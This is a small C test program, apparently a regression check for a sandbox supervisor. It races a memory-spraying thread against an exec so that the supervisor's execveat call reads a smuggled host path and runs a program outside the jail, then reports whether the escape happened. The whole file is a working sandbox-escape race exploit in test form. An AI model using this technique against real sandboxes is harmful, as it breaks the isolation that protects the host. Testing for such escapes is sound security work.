/* execrace HOSTPATH ROUNDS: in each of ROUNDS children, a second thread writes
 * HOSTPATH over the stack below the exec'ing thread's, at every offset, while
 * the first execs /bin/true: the supervisor's execveat(fd, "", ...) reads its
 * "" from there. If the kernel ran HOSTPATH (a program outside the jail that
 * exits 42), prints "escaped" and exits 1. */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
static char *target;
static volatile char *lo, *hi;
static void *spray(void *a)
{
    size_t n = strlen(target) + 1;
    for (;;)
        for (volatile char *p = lo; p + n < hi; p += 1)
            memcpy((char *)p, target, n);
    return a;
}
int main(int argc, char **argv)
{
    target = argv[1];
    int rounds = atoi(argv[2]);
    for (int i = 0; i < rounds; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            char here;
            hi = &here - 128;
            lo = hi - 2048;
            pthread_t t;
            pthread_create(&t, NULL, spray, NULL);
            usleep(100);
            char *args[] = {"true", NULL};
            execv("/bin/true", args);
            _exit(127);
        }
        int st;
        waitpid(pid, &st, 0);
        if (WIFEXITED(st) && WEXITSTATUS(st) == 42) {
            printf("escaped at round %d\n", i);
            return 1;
        }
    }
    printf("no escape in %d rounds\n", rounds);
    return 0;
}
